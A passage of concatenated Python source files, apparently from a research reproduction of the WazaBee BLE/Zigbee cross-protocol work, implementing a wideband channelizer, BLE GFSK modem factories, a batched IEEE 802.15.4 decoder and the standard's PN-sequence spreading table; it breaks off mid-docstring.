    samples at each block edge; keep them inside a zero margin.
    """
    taps = np.asarray(taps, dtype=np.float64)
    if taps.size > n_out:
        raise ValueError("taps longer than the block they filter")
    padded = np.zeros(n_out)
    padded[: taps.size] = taps
    # Symmetric taps centred at 0 have a real DFT; the imaginary residue
    # is float round-off only.
    return np.fft.fft(np.roll(padded, -(taps.size // 2))).real


def _edge_taper(n_out: int, taper_bins: int) -> np.ndarray:
    """Raised-cosine mask rolling off the outer *taper_bins* of a window.

    Applied (in FFT bin order) only by the streaming overlap-save path,
    where block boundaries would otherwise leak brick-wall transients
    between blocks.  The taper lives entirely in the outer guard band
    that the downstream 1.3 MHz channel filter removes anyway.
    """
    mask = np.ones(n_out)
    if taper_bins <= 0:
        return mask
    ramp = 0.5 * (1.0 - np.cos(np.pi * (np.arange(taper_bins) + 0.5) / taper_bins))
    # FFT order: positive-frequency edge is bins n/2−taper..n/2−1, the
    # negative-frequency edge n/2..n/2+taper−1.
    half = n_out // 2
    mask[half - taper_bins : half] = ramp[::-1]
    mask[half : half + taper_bins] = ramp
    return mask


class PolyphaseChannelizer:
    """Split a wideband capture into per-channel basebands in one pass.

    Parameters
    ----------
    grid:
        The band geometry (defaults to the full 16-channel Zigbee raster
        at 16 Msps per channel, 128 Msps wideband).
    block_samples:
        Per-channel samples per overlap-save block.  ``None`` (default)
        processes the whole capture as a single exact block; a value
        engages streaming overlap-save with ``guard``-sample overlap.
    guard:
        Output samples discarded at each block edge in streaming mode.
    taper_bins:
        Spectral-edge raised-cosine width (streaming mode only).
    """

    def __init__(
        self,
        grid: Optional[WidebandGrid] = None,
        block_samples: Optional[int] = None,
        guard: int = 128,
        taper_bins: int = 64,
    ):
        self.grid = grid or WidebandGrid()
        if block_samples is not None:
            block_samples = self.grid.pad_length(block_samples)
            if block_samples <= 2 * guard:
                raise ValueError("block_samples must exceed twice the guard")
        self.block_samples = block_samples
        self.guard = guard
        self.taper_bins = taper_bins
        self._index_cache: Dict[Tuple[Tuple[int, ...], int], np.ndarray] = {}
        self.trace = _current_bus()
        self.metrics = _current_metrics()

    # -- internals -----------------------------------------------------------
    def _indices(self, channels: Tuple[int, ...], n_out: int) -> np.ndarray:
        key = (channels, n_out)
        cached = self._index_cache.get(key)
        if cached is None:
            cached = np.stack(
                [_gather_indices(self.grid, c, n_out) for c in channels]
            )
            self._index_cache[key] = cached
        return cached

    def _split_block(
        self,
        wide: np.ndarray,
        channels: Tuple[int, ...],
        taper: Optional[np.ndarray],
        spectral_weights: Optional[np.ndarray] = None,
    ) -> np.ndarray:
        """One block: wideband FFT → per-channel gather → inverse FFTs."""
        n_out = wide.shape[-1] // self.grid.oversample
        spectrum = np.fft.fft(wide, axis=-1)
        idx = self._indices(channels, n_out)
        # (..., n_wide) gathered to (..., C, n_out): one inverse transform
        # per channel, batched into a single call.
        gathered = spectrum[..., idx]
        if taper is not None:
            gathered = gathered * taper
        if spectral_weights is not None:
            gathered = gathered * spectral_weights
        return np.fft.ifft(gathered, axis=-1) / self.grid.oversample

    # -- public API ----------------------------------------------------------
    def channelize(
        self,
        wide: np.ndarray,
        channels: Optional[Sequence[int]] = None,
        spectral_weights: Optional[np.ndarray] = None,
    ) -> np.ndarray:
        """Extract per-channel basebands from wideband samples.

        Parameters
        ----------
        wide:
            ``(..., n_wide)`` complex wideband samples at
            :attr:`WidebandGrid.wide_rate`, centred on
            :attr:`WidebandGrid.center_hz`.  ``n_wide`` must be
            ``oversample × pad_length(n)`` — compose with
            :func:`compose_band` or pad the capture accordingly.
        channels:
            Channels to extract (default: every channel in the grid).
        spectral_weights:
            Optional ``(n_out,)`` (or broadcastable) per-bin weights
            multiplied into every extracted window — the hook the
            wideband front end uses to fold the receive channel filter
            into the extraction for free.

        Returns
        -------
        ``(..., C, n_out)`` complex basebands at
        :attr:`WidebandGrid.channel_rate`, one leading row per requested
        channel, in request order.
        """
        wide = np.asarray(wide)
        channels = tuple(channels if channels is not None else self.grid.channels)
        L = self.grid.oversample
        if wide.shape[-1] % L:
            raise ValueError(
                f"wideband length {wide.shape[-1]} is not a multiple of the "
                f"oversample factor {L}"
            )
        n_out = wide.shape[-1] // L
        if n_out % self.grid.block_multiple:
            raise ValueError(
                f"per-channel length {n_out} must be a multiple of "
                f"{self.grid.block_multiple} (pad the capture to "
                f"oversample x pad_length)"
            )
        if self.block_samples is None or self.block_samples >= n_out:
            out = self._split_block(wide, channels, None, spectral_weights)
        else:
            out = self._channelize_blocks(wide, channels, spectral_weights)
        self.trace.emit(
            CHANNELIZER_SPLIT,
            time=0.0,
            channels=len(channels),
            samples_in=int(wide.shape[-1]),
            samples_out=int(n_out),
            mode="overlap-save" if self.block_samples else "single-block",
        )
        self.metrics.counter("channelizer.splits").inc()
        self.metrics.counter("channelizer.samples_in").inc(int(np.prod(wide.shape)))
        for channel in channels:
            self.metrics.counter(f"channelizer.ch{channel}.extracted").inc()
        return out

    def _channelize_blocks(
        self,
        wide: np.ndarray,
        channels: Tuple[int, ...],
        spectral_weights: Optional[np.ndarray],
    ) -> np.ndarray:
        """Streaming overlap-save: guarded blocks, stitched outputs."""
        L = self.grid.oversample
        n_out = wide.shape[-1] // L
        block = self.block_samples
        guard = self.guard
        hop = block - 2 * guard
        taper = _edge_taper(block, self.taper_bins)
        out_shape = wide.shape[:-1] + (len(channels), n_out)
        out = np.zeros(out_shape, dtype=np.complex128)
        # Virtually extend the capture with guard zeros on both sides so
        # every output sample lands in some block's kept region.
        start = -guard
        while start + guard < n_out:
            lo_wide, hi_wide = start * L, (start + block) * L
            seg = np.zeros(wide.shape[:-1] + (block * L,), dtype=np.complex128)
            src_lo, src_hi = max(lo_wide, 0), min(hi_wide, wide.shape[-1])
            if src_hi > src_lo:
                seg[..., src_lo - lo_wide : src_hi - lo_wide] = wide[
                    ..., src_lo:src_hi
                ]
            piece = self._split_block(seg, channels, taper, spectral_weights)
            keep_lo = start + guard
            keep_hi = min(start + block - guard, n_out)
            out[..., keep_lo:keep_hi] = piece[
                ..., guard : guard + (keep_hi - keep_lo)
            ]
            start += hop
        return out


def compose_band(
    channel_signals: Mapping[int, np.ndarray],
    grid: Optional[WidebandGrid] = None,
    n_out: Optional[int] = None,
) -> np.ndarray:
    """Superpose per-channel basebands into one wideband capture.

    The exact inverse of single-block channelization: each channel's
    spectrum is placed in its 16 MHz window of the wideband raster (the
    windows of 5 MHz-spaced channels overlap — spectra simply add, which
    *is* the physical superposition), and one inverse transform yields
    the time-domain band capture.  Composing one channel and
    channelizing it back reproduces the input to float round-off;
    with neighbours present, each extracted baseband additionally
    carries their true adjacent-channel leakage.

    Parameters
    ----------
    channel_signals:
        Mapping of Zigbee channel → complex baseband samples at
        ``grid.channel_rate``.  Shapes must share a common trailing
        length (shorter inputs are zero-padded to ``n_out``).
    n_out:
        Per-channel block length; defaults to ``pad_length`` of the
        longest input.

    Returns
    -------
    ``(..., oversample × n_out)`` complex wideband samples.
    """
    grid = grid or WidebandGrid()
    if not channel_signals:
        raise ValueError("compose_band needs at least one channel signal")
    arrays = {c: np.asarray(s) for c, s in channel_signals.items()}
    longest = max(a.shape[-1] for a in arrays.values())
    n_out = grid.pad_length(n_out if n_out is not None else longest)
    if longest > n_out:
        raise ValueError(f"n_out {n_out} shorter than longest signal {longest}")
    lead_shapes = {a.shape[:-1] for a in arrays.values()}
    if len(lead_shapes) != 1:
        raise ValueError("all channel signals must share leading dimensions")
    lead = lead_shapes.pop()
    n_wide = grid.oversample * n_out
    spectrum = np.zeros(lead + (n_wide,), dtype=np.complex128)
    for channel, samples in arrays.items():
        padded = np.zeros(lead + (n_out,), dtype=np.complex128)
        padded[..., : samples.shape[-1]] = samples
        idx = _gather_indices(grid, channel, n_out)
        # Within one channel the gathered bins are unique, so in-place
        # fancy-index addition is safe; overlapping *channels* accumulate
        # across loop iterations (spectral superposition).
        spectrum[..., idx] += np.fft.fft(padded, axis=-1)
    wide = np.fft.ifft(spectrum, axis=-1) * grid.oversample
    _current_bus().emit(
        CHANNELIZER_COMPOSE,
        time=0.0,
        channels=len(arrays),
        samples=int(n_wide),
    )
    _current_metrics().counter("channelizer.composes").inc()
    return wide
