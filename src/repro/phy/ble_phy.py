"""BLE GFSK modem factories.

Centralises the physical-layer parameters of the BLE modes (and the
Enhanced ShockBurst 2 Mbit/s mode that Scenario B's nRF51822 falls back to)
so chip models and experiments build consistent modems.

BLE mandates BT = 0.5 and a modulation index between 0.45 and 0.55; the
index is a per-chip analogue property, so the chip models pass their own
value (the WazaBee approximation degrades as it moves away from 0.5 — one
of the ablation benchmarks sweeps it).
"""

from __future__ import annotations

from repro.ble.packets import PhyMode
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig

__all__ = [
    "DEFAULT_SAMPLES_PER_SYMBOL",
    "ESB_2M_SYMBOL_RATE",
    "ble_modulator",
    "ble_demodulator",
    "modem_config",
]

DEFAULT_SAMPLES_PER_SYMBOL = 8
#: Enhanced ShockBurst high-rate mode (nRF51/nRF52 proprietary protocol).
ESB_2M_SYMBOL_RATE = 2e6


def modem_config(
    modulation_index: float = 0.5,
    bt: float = 0.5,
    samples_per_symbol: int = DEFAULT_SAMPLES_PER_SYMBOL,
) -> GfskConfig:
    """Build a :class:`GfskConfig`, validating the BLE tolerance window."""
    if not 0.45 <= modulation_index <= 0.55:
        raise ValueError(
            "BLE requires a modulation index within [0.45, 0.55]; "
            f"got {modulation_index} (use GfskConfig directly for ablations)"
        )
    return GfskConfig(
        samples_per_symbol=samples_per_symbol,
        modulation_index=modulation_index,
        bt=bt,
    )


def ble_modulator(
    phy: PhyMode,
    modulation_index: float = 0.5,
    bt: float = 0.5,
    samples_per_symbol: int = DEFAULT_SAMPLES_PER_SYMBOL,
) -> FskModulator:
    """GFSK modulator for a BLE PHY mode."""
    config = modem_config(modulation_index, bt, samples_per_symbol)
    return FskModulator(config, phy.symbol_rate)


def ble_demodulator(
    phy: PhyMode,
    modulation_index: float = 0.5,
    samples_per_symbol: int = DEFAULT_SAMPLES_PER_SYMBOL,
) -> FskDemodulator:
    """FSK demodulator matched to a BLE PHY mode."""
    config = GfskConfig(
        samples_per_symbol=samples_per_symbol,
        modulation_index=modulation_index,
        bt=None,
    )
    return FskDemodulator(config, phy.symbol_rate)
