"""Batched frames-axis decode pipeline (mix → sync → despread → FCS).

The sequential receive path runs one capture at a time:
:class:`~repro.dsp.oqpsk.OqpskDemodulator` discriminates, correlates and
slices, then :func:`~repro.phy.ieee802154.despread_chips` despreads and
the PPDU layer frames.  A Table III cell repeats that ~100 times.  This
module runs the same hot path along a *frames axis*: a stack of
equal-length captures becomes one ``(F, N)`` tensor, and each stage —
quadrature discrimination, FFT sync correlation, integrate-and-dump chip
decisions, prefix-XOR rotation→chip inversion, and the PN-matrix
despread — is a single vectorised operation over all F rows.

The decisions are the same decisions the sequential demodulator makes
(same templates, thresholds, RSSI gate, DC compensation and re-arm
behaviour), so batched decode outcomes are bit-identical to running the
captures one-by-one — the property the differential test harness pins.

Despreading additionally produces a per-symbol soft output: the LLR of
each minimum-Hamming-distance decision, measured as the margin between
the best and runner-up PN match.  It complements PR 1's per-symbol
``confidences`` (1 − d/31 over MSK blocks): the margin says how much
evidence separated the chosen symbol from the next candidate, which is
exactly what a soft-input FEC or the FCS-failure salvage path wants.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

import numpy as np

from repro.dot15d4.fcs import verify_fcs
from repro.dsp.msk import chips_to_transitions
from repro.phy.ieee802154 import (
    CHIPS_PER_SYMBOL,
    MAX_PSDU_SIZE,
    PN_MATRIX,
    PN_SEQUENCES,
    Ppdu,
    symbol_confidences,
)

__all__ = [
    "BatchDecodedFrame",
    "BatchDecodeResult",
    "despread_blocks_soft",
    "decode_chip_frames",
]

#: Chip-timing sync pattern and parity, mirroring the sequential
#: 802.15.4 receiver (two preamble symbols, stream index 32).
_SYNC_CHIPS = np.concatenate([PN_SEQUENCES[0], PN_SEQUENCES[0]])
_SYNC_START_INDEX = CHIPS_PER_SYMBOL

#: Decode ceiling per capture, as in the sequential radio.
_MAX_CHIPS = CHIPS_PER_SYMBOL * (10 + 2 * (1 + MAX_PSDU_SIZE))

#: Re-arm attempts after a sync that yielded no frame (sequential parity).
RESYNC_ATTEMPTS = 4

#: Discriminator limiter, as in :class:`~repro.dsp.gfsk.FskDemodulator`.
_CLIP_LEVEL = 1.5


@dataclass
class BatchDecodedFrame:
    """One frame recovered by the batched pipeline.

    Mirrors the information content of the sequential
    :class:`~repro.chips.rzusbstick.ReceivedPsdu` /
    :class:`~repro.core.rx.DecodedFrame` pair, plus the soft output.
    """

    psdu: bytes
    fcs_ok: bool
    sfd_index: int
    sync_start: int
    sync_score: float
    chip_index: int
    symbols: List[int] = field(default_factory=list)
    distances: List[int] = field(default_factory=list)
    #: Per-symbol LLR: Hamming margin between best and runner-up PN match.
    llrs: List[int] = field(default_factory=list)

    @property
    def mean_distance(self) -> float:
        if not self.distances:
            return 0.0
        return float(np.mean(self.distances))

    @property
    def confidences(self) -> List[float]:
        """Per-symbol confidence in [0, 1].

        Same mapping as the sequential
        :class:`~repro.core.rx.DecodedFrame` — both delegate to
        :func:`repro.phy.ieee802154.symbol_confidences`.
        """
        return symbol_confidences(self.distances)


@dataclass
class BatchDecodeResult:
    """Per-row outcomes of one batched decode call."""

    frames: List[Optional[BatchDecodedFrame]]
    sync_found: int
    decoded: int


def despread_blocks_soft(
    blocks: np.ndarray,
) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Batched minimum-Hamming-distance despread with soft output.

    *blocks* is ``(..., 32)`` — any number of leading axes of 32-chip
    blocks.  Returns ``(symbols, distances, llrs)`` with the leading
    shape preserved; *llrs* is the margin ``d₂ − d₁`` between the two
    best PN matches (0 = ambiguous, 12+ = clean: distinct PN sequences
    are ≥16 chips apart within each cyclic-shift family and ≥12 across
    the conjugate family).
    """
    arr = np.asarray(blocks, dtype=np.uint8)
    if arr.shape[-1] != CHIPS_PER_SYMBOL:
        raise ValueError(
            f"expected trailing axis of {CHIPS_PER_SYMBOL} chips, got "
            f"{arr.shape[-1]}"
        )
    lead = arr.shape[:-1]
    flat = arr.reshape(-1, CHIPS_PER_SYMBOL).astype(np.int32)
    pn = PN_MATRIX.astype(np.int32)
    # |p ^ c| = |p| + |c| − 2·p·c: one (N, 32) × (32, 16) matmul.
    dists = pn.sum(axis=1)[None, :] + flat.sum(axis=1)[:, None]
    dists -= 2 * (flat @ pn.T)
    symbols = dists.argmin(axis=1)
    rows = np.arange(flat.shape[0])
    best = dists[rows, symbols]
    two_best = np.partition(dists, 1, axis=1)[:, :2]
    llrs = two_best[:, 1] - two_best[:, 0]
    return (
        symbols.reshape(lead),
        best.reshape(lead),
        llrs.reshape(lead),
    )


def _discriminate(captures: np.ndarray, frequency_deviation: float, sample_rate: float) -> np.ndarray:
    """Batched quadrature discriminator, matching FskDemodulator's output."""
    phase = np.angle(captures[..., 1:] * np.conj(captures[..., :-1]))
    raw = phase * (sample_rate / (2.0 * np.pi)) / frequency_deviation
    return np.clip(raw, -_CLIP_LEVEL, _CLIP_LEVEL)


def _batched_correlate(disc: np.ndarray, template: np.ndarray) -> np.ndarray:
    """``np.correlate(row, template, "valid")`` for every row, via one FFT.

    scipy's pocketfft preserves single precision (numpy's always upcasts
    to float64), so a float32 discriminator output stays float32 end to
    end — the wideband sweep's hot path relies on that.
    """
    try:
        from scipy import fft as sp_fft

        n_fft = sp_fft.next_fast_len(disc.shape[-1])
        spec = sp_fft.rfft(disc, n_fft, axis=-1, workers=2)
        spec *= np.conj(sp_fft.rfft(template, n_fft))
        full = sp_fft.irfft(spec, n_fft, axis=-1, workers=2)
    except ImportError:  # pragma: no cover - scipy is a hard dep elsewhere
        n_fft = int(2 ** np.ceil(np.log2(disc.shape[-1])))
        spec = np.fft.rfft(disc, n_fft, axis=-1)
        spec *= np.conj(np.fft.rfft(template, n_fft))
        full = np.fft.irfft(spec, n_fft, axis=-1)
    return full[..., : disc.shape[-1] - template.size + 1]


def _sync_statics(
    disc: np.ndarray,
    power: np.ndarray,
    template: np.ndarray,
    threshold: float,
) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Search-start-independent sync statistics, computed once per stack.

    Returns ``(corr, valid, disc_cum)``: the normalised template
    correlation, the threshold ∧ RSSI-gate mask over all alignments, and
    the discriminator prefix sums for DC estimation.  Re-arm attempts
    only move each row's search start, so these never need recomputing.
    """
    centered = (template - template.mean()).astype(disc.dtype)
    norm = float(np.dot(centered, centered))
    corr = _batched_correlate(disc, centered) / norm
    valid = corr >= threshold
    m = valid.shape[-1]
    # RSSI gate: windowed mean power vs 0.25 × its 90th percentile.
    window = template.size
    cumulative = np.concatenate(
        [
            np.zeros(disc.shape[:-1] + (1,), dtype=power.dtype),
            np.cumsum(power, axis=-1),
        ],
        axis=-1,
    )
    windowed = (cumulative[..., window:] - cumulative[..., :-window]) / window
    windowed = windowed[..., :m]
    gate = 0.25 * np.percentile(windowed, 90, axis=-1, keepdims=True)
    valid &= windowed >= gate
    disc_cum = np.concatenate(
        [
            np.zeros(disc.shape[:-1] + (1,), dtype=disc.dtype),
            np.cumsum(disc, axis=-1),
        ],
        axis=-1,
    )
    return corr, valid, disc_cum


def _sync_pick(
    corr: np.ndarray,
    valid: np.ndarray,
    disc_cum: np.ndarray,
    template_mean: float,
    window: int,
    spc: int,
    search_start: np.ndarray,
) -> Tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    """First gated alignment at/after each row's search start, refined.

    Decision order matches the sequential implementation: first
    alignment above threshold that survives the RSSI gate, refined to
    the local correlation maximum within two symbols.
    """
    m = valid.shape[-1]
    col = np.arange(m)
    masked = valid & (col[None, :] >= search_start[:, None])
    found = masked.any(axis=-1)
    first = np.where(found, masked.argmax(axis=-1), 0)
    # Refine to the local maximum within two symbols of the first hit.
    span = 2 * spc
    offsets = np.arange(span)
    win_idx = np.minimum(first[:, None] + offsets[None, :], m - 1)
    win = np.take_along_axis(corr, win_idx, axis=-1)
    # Mask positions that fell past the row's window end (clamped dups).
    win = np.where(first[:, None] + offsets[None, :] <= m - 1, win, -np.inf)
    best = first + win.argmax(axis=-1)
    score = np.take_along_axis(corr, best[:, None], axis=-1)[:, 0]
    # DC estimate: mean of the locked window minus the template mean.
    win_mean = (
        np.take_along_axis(disc_cum, best[:, None] + window, axis=-1)[:, 0]
        - np.take_along_axis(disc_cum, best[:, None], axis=-1)[:, 0]
    ) / window
    dc_norm = win_mean - template_mean
    return found, best, score, dc_norm


def _find_sync_batch(
    disc: np.ndarray,
    power: np.ndarray,
    template: np.ndarray,
    template_mean: float,
    spc: int,
    threshold: float,
    search_start: np.ndarray,
) -> Tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]:
    """Vectorised :meth:`FskDemodulator.find_sync` over all rows.

    One-shot combination of :func:`_sync_statics` + :func:`_sync_pick`;
    the decode loop calls the pieces separately so re-arm attempts reuse
    the statics.
    """
    corr, valid, disc_cum = _sync_statics(disc, power, template, threshold)
    return _sync_pick(
        corr, valid, disc_cum, template_mean, template.size, spc, search_start
    )


def _frame_from_symbols(
    symbols: np.ndarray,
    distances: np.ndarray,
    llrs: np.ndarray,
    sync_start: int,
    sync_score: float,
    chip_index: int,
    max_chip_distance: int,
) -> Optional[BatchDecodedFrame]:
    """SFD search + PPDU parse + FCS: the per-frame (cheap) tail."""
    symbol_list = np.asarray(symbols).tolist()
    sfd_index = Ppdu.find_sfd(symbol_list)
    if sfd_index is None:
        return None
    ppdu = Ppdu.parse_symbols(symbol_list[sfd_index:])
    if ppdu is None:
        return None
    frame_symbols = 4 + 2 * len(ppdu.psdu)
    frame_slice = slice(sfd_index, sfd_index + frame_symbols)
    frame_distances = np.asarray(distances[frame_slice]).tolist()
    mean_distance = (
        sum(frame_distances) / len(frame_distances) if frame_distances else 0.0
    )
    if max_chip_distance and mean_distance > max_chip_distance:
        return None
    return BatchDecodedFrame(
        psdu=ppdu.psdu,
        fcs_ok=verify_fcs(ppdu.psdu),
        sfd_index=sfd_index,
        sync_start=sync_start,
        sync_score=sync_score,
        chip_index=chip_index,
        symbols=symbol_list[frame_slice],
        distances=frame_distances,
        llrs=np.asarray(llrs[frame_slice]).tolist(),
    )


def decode_chip_frames(
    captures: np.ndarray,
    samples_per_chip: int,
    chip_rate: float = 2e6,
    sync_threshold: float = 0.45,
    max_chip_distance: int = 12,
) -> BatchDecodeResult:
    """Decode a stack of equal-length baseband captures in one pass.

    *captures* is ``(F, N)`` complex — already tuned and channel-filtered
    basebands (e.g. one channelizer output per frame slot).  Each row is
    taken through the full 802.15.4-over-MSK receive chain with every
    stage batched along the frames axis.  Rows whose first sync lock
    yields no frame are re-armed up to :data:`RESYNC_ATTEMPTS` times,
    exactly like the sequential radio.
    """
    captures = np.atleast_2d(np.asarray(captures))
    num_rows = captures.shape[0]
    sample_rate = chip_rate * samples_per_chip
    deviation = 0.5 * chip_rate / 2.0
    spc = samples_per_chip
    disc = _discriminate(captures, deviation, sample_rate)
    power = np.abs(captures[..., :-1]) ** 2
    transitions_template = chips_to_transitions(
        _SYNC_CHIPS, start_index=_SYNC_START_INDEX
    )
    nrz = transitions_template.astype(np.float64) * 2.0 - 1.0
    template = np.repeat(nrz, spc)
    template_mean = float(template.mean())
    first_chip_index = _SYNC_START_INDEX + _SYNC_CHIPS.size
    previous_chip = int(_SYNC_CHIPS[-1])
    parity = (
        np.arange(first_chip_index, first_chip_index + _MAX_CHIPS) & 1
    ).astype(np.uint8)

    frames: List[Optional[BatchDecodedFrame]] = [None] * num_rows
    search_start = np.zeros(num_rows, dtype=np.int64)
    active = np.arange(num_rows)
    sync_found_rows: set = set()
    # Correlation, RSSI gate and prefix sums are independent of the
    # search start — compute once, reuse across re-arm attempts.
    corr, valid, disc_cum = _sync_statics(
        disc, power, template, sync_threshold
    )
    for _attempt in range(RESYNC_ATTEMPTS):
        if active.size == 0:
            break
        found, best, score, dc_norm = _sync_pick(
            corr[active],
            valid[active],
            disc_cum[active],
            template_mean,
            template.size,
            spc,
            search_start[active],
        )
        hit = active[found]
        if hit.size == 0:
            break
        sync_found_rows.update(int(r) for r in hit)
        starts = best[found]
        dcs = dc_norm[found]
        scores = score[found]
        payload_start = starts + template.size
        counts = np.minimum(
            _MAX_CHIPS, (disc.shape[-1] - payload_start) // spc
        )
        usable = counts > 0
        hit, starts, dcs, scores, payload_start, counts = (
            hit[usable],
            starts[usable],
            dcs[usable],
            scores[usable],
            payload_start[usable],
            counts[usable],
        )
        if hit.size == 0:
            break
        count_max = int(counts.max())
        # Gather each row's payload window; indices past a row's count
        # are clamped in-range and masked out after the per-row slice.
        gather = payload_start[:, None] + np.arange(count_max * spc)[None, :]
        gather = np.minimum(gather, disc.shape[-1] - 1)
        window = disc[hit[:, None], gather] - dcs[:, None]
        soft = window.reshape(hit.size, count_max, spc).sum(axis=2)
        transitions = (soft > 0).astype(np.uint8)
        # transitions → chips: prefix XOR along the frames axis.
        chips = np.bitwise_xor.accumulate(
            transitions ^ parity[None, :count_max], axis=1
        )
        chips ^= np.uint8(previous_chip & 1)
        sym_max = count_max // CHIPS_PER_SYMBOL
        if sym_max:
            blocks = chips[:, : sym_max * CHIPS_PER_SYMBOL].reshape(
                hit.size, sym_max, CHIPS_PER_SYMBOL
            )
            symbols, distances, llrs = despread_blocks_soft(blocks)
        still_active: List[int] = []
        for i, row in enumerate(hit):
            row = int(row)
            count = int(counts[i])
            num_symbols = count // CHIPS_PER_SYMBOL
            frame = None
            if num_symbols:
                frame = _frame_from_symbols(
                    symbols[i, :num_symbols],
                    distances[i, :num_symbols],
                    llrs[i, :num_symbols],
                    sync_start=int(starts[i]),
                    sync_score=float(scores[i]),
                    chip_index=first_chip_index,
                    max_chip_distance=max_chip_distance,
                )
            if frame is not None:
                frames[row] = frame
            else:
                # Re-arm one symbol past the failed lock (sequential parity).
                search_start[row] = int(starts[i]) + CHIPS_PER_SYMBOL * spc
                still_active.append(row)
        active = np.array(still_active, dtype=np.int64)
    decoded = sum(1 for f in frames if f is not None)
    return BatchDecodeResult(
        frames=frames, sync_found=len(sync_found_rows), decoded=decoded
    )
