"""Physical-layer definitions for the two protocols.

* :mod:`repro.phy.ieee802154` — the 802.15.4 PHY: PPDU framing
  (preamble / SFD / PHR / PSDU), the 16-entry PN-sequence table (the paper's
  Table I) and DSSS spreading / Hamming-distance despreading.
* :mod:`repro.phy.ble_phy` — GFSK modem factories for the BLE LE 1M and
  LE 2M physical layers (and the nRF51's Enhanced ShockBurst 2 Mbit/s
  fallback used in Scenario B).
"""

from repro.phy.ieee802154 import (
    CHIPS_PER_SYMBOL,
    PN_SEQUENCES,
    Ppdu,
    despread_symbol,
    spread_bytes,
)
from repro.phy.ble_phy import ble_demodulator, ble_modulator

__all__ = [
    "PN_SEQUENCES",
    "CHIPS_PER_SYMBOL",
    "spread_bytes",
    "despread_symbol",
    "Ppdu",
    "ble_modulator",
    "ble_demodulator",
]
