"""IEEE 802.15.4 physical layer (2.4 GHz O-QPSK PHY).

Implements §III-C of the paper / clause 12 of IEEE 802.15.4-2015:

* the PPDU format — preamble (4 zero bytes), SFD, PHR (frame length),
  PSDU;
* Direct Sequence Spread Spectrum: each nibble (4 bits, LSB nibble of a
  byte first) maps to a 32-chip pseudo-random noise sequence — the paper's
  Table I, reproduced verbatim in :data:`PN_SEQUENCES`;
* despreading by minimum Hamming distance, which is what lets both the
  legitimate Zigbee receiver and the WazaBee receiver tolerate chip errors.

Note on the SFD: the standard defines the SFD *value* as 0xA7; the paper's
§III-C prints it as "0x7A" because it lists the nibbles in transmission
order (low nibble 0x7 on air first).  Both descriptions put symbol 7 then
symbol 10 on the air, which is what matters.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence, Tuple

import numpy as np

from repro.utils.bits import parse_bitstring

__all__ = [
    "CHIP_RATE_HZ",
    "CHIPS_PER_SYMBOL",
    "SYMBOLS_PER_BYTE",
    "PREAMBLE_BYTES",
    "SFD_VALUE",
    "MAX_PSDU_SIZE",
    "PN_SEQUENCES",
    "PN_MATRIX",
    "symbols_for_byte",
    "byte_for_symbols",
    "spread_bytes",
    "spread_symbols",
    "despread_symbol",
    "despread_chips",
    "symbol_confidences",
    "Ppdu",
    "SHR_SYMBOLS",
]

CHIP_RATE_HZ = 2e6
CHIPS_PER_SYMBOL = 32
SYMBOLS_PER_BYTE = 2
PREAMBLE_BYTES = 4
SFD_VALUE = 0xA7
MAX_PSDU_SIZE = 127

# The paper's Table I.  Row order there is by transmission-order bit pattern
# (b0 b1 b2 b3) with b0 the LSB, i.e. rows appear as symbols
# 0, 1, 2, 3, ... 15 — the same indexing used here.
_PN_TABLE_TEXT = [
    "11011001 11000011 01010010 00101110",  # 0  (0000)
    "11101101 10011100 00110101 00100010",  # 1  (1000)
    "00101110 11011001 11000011 01010010",  # 2  (0100)
    "00100010 11101101 10011100 00110101",  # 3  (1100)
    "01010010 00101110 11011001 11000011",  # 4  (0010)
    "00110101 00100010 11101101 10011100",  # 5  (1010)
    "11000011 01010010 00101110 11011001",  # 6  (0110)
    "10011100 00110101 00100010 11101101",  # 7  (1110)
    "10001100 10010110 00000111 01111011",  # 8  (0001)
    "10111000 11001001 01100000 01110111",  # 9  (1001)
    "01111011 10001100 10010110 00000111",  # 10 (0101)
    "01110111 10111000 11001001 01100000",  # 11 (1101)
    "00000111 01111011 10001100 10010110",  # 12 (0011)
    "01100000 01110111 10111000 11001001",  # 13 (1011)
    "10010110 00000111 01111011 10001100",  # 14 (0111)
    "11001001 01100000 01110111 10111000",  # 15 (1111)
]

PN_SEQUENCES: Tuple[np.ndarray, ...] = tuple(
    parse_bitstring(row) for row in _PN_TABLE_TEXT
)

# All sequences stacked as a (16, 32) matrix for vectorised Hamming search.
PN_MATRIX: np.ndarray = np.stack(PN_SEQUENCES)


def symbols_for_byte(value: int) -> Tuple[int, int]:
    """Split a byte into its two DSSS symbols, low nibble first."""
    if not 0 <= value <= 0xFF:
        raise ValueError("byte value out of range")
    return value & 0x0F, value >> 4


def byte_for_symbols(low: int, high: int) -> int:
    """Reassemble a byte from two symbols (low nibble first)."""
    if not 0 <= low <= 0xF or not 0 <= high <= 0xF:
        raise ValueError("symbol out of range")
    return low | (high << 4)


def spread_symbols(symbols: Sequence[int]) -> np.ndarray:
    """Concatenate the PN sequences for a symbol list."""
    if len(symbols) == 0:
        return np.zeros(0, dtype=np.uint8)
    bad = [s for s in symbols if not 0 <= int(s) <= 15]
    if bad:
        raise ValueError(f"symbols out of range: {bad}")
    return np.concatenate([PN_SEQUENCES[int(s)] for s in symbols])


def spread_bytes(data: bytes) -> np.ndarray:
    """DSSS-spread *data*: each byte becomes 64 chips (2 symbols)."""
    symbols: List[int] = []
    for byte in data:
        low, high = symbols_for_byte(byte)
        symbols.extend((low, high))
    return spread_symbols(symbols)


def despread_symbol(chips: np.ndarray) -> Tuple[int, int]:
    """Best-matching symbol for one 32-chip block.

    Returns ``(symbol, hamming_distance)``.  Matching by minimum Hamming
    distance copes with "bit errors caused by the approximation ... but also
    interference due to the channel" (§IV-D).
    """
    arr = np.asarray(chips, dtype=np.uint8)
    if arr.size != CHIPS_PER_SYMBOL:
        raise ValueError(f"expected {CHIPS_PER_SYMBOL} chips, got {arr.size}")
    distances = np.count_nonzero(PN_MATRIX != arr[None, :], axis=1)
    best = int(np.argmin(distances))
    return best, int(distances[best])


def despread_chips(
    chips: np.ndarray, max_distance: Optional[int] = None
) -> Tuple[List[int], List[int]]:
    """Despread a chip stream into symbols.

    Trailing chips that do not fill a 32-chip block are ignored.  If
    *max_distance* is given, despreading stops at the first block whose best
